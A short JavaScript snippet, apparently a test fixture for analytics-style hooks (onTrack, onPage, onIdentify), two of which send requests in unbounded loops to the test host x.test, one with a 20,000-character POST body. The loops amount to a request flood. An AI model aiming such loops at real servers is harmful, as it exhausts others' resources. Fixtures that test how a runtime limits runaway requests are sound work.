// Asks for as long as it is answered well.
async function onTrack() {
  while ((await fetch("https://x.test/", { method: "POST", body: "x".repeat(20000) })).ok);
}

async function onPage() {
  while ((await fetch("https://x.test/")).ok);
}

async function onIdentify() {
  await fetch("https://x.test/");
}
